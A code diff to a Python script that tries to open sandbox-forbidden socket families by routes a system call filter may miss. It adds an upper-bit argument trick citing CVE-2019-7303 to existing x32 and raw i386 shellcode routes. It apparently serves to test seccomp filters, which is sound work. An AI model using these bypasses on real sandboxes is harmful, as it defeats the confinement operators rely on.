@@ -1,6 +1,6 @@
 """Opens sockets of families that are not for a sandbox, by ways that a system call filter may forget.
 
-    families.py WAY FAMILY…        WAY: direct, pair, io_uring, i386, x32
+    families.py WAY FAMILY…        WAY: direct, pair, io_uring, i386, x32, wide
 
 Prints a line for each family that was opened, and at the end that all was tried.
 """
@@ -73,6 +73,11 @@ def x32(family: int, kind: int) -> int:
     return int(LIBC.syscall(SYS_SOCKET | X32, family, kind, 0))
 
 
+def wide(family: int, kind: int) -> int:
+    """A number whose upper half the kernel does not look at (CVE-2019-7303 of snapd, with another call)."""
+    return int(LIBC.syscall(SYS_SOCKET, ctypes.c_uint64(1 << 32 | family), kind, 0))
+
+
 def i386(family: int, kind: int) -> int:
     """The system call as 32-bit programs make it, whose numbers are others."""
     code = bytes.fromhex("53 89fb 89f1 31d2 b867010000 cd80 5b c3")
@@ -86,7 +91,7 @@ def i386(family: int, kind: int) -> int:
 
 def main(way: str, families: list[int]) -> None:
     ring = Ring() if way == "io_uring" else None
-    ways: dict[str, Callable[[int, int], int]] = {"direct": direct, "pair": pair, "x32": x32, "i386": i386}
+    ways: dict[str, Callable[[int, int], int]] = {"direct": direct, "pair": pair, "x32": x32, "i386": i386, "wide": wide}
     attempt = ring.socket if ring else ways[way]
     for family in families:
         for kind in KINDS:
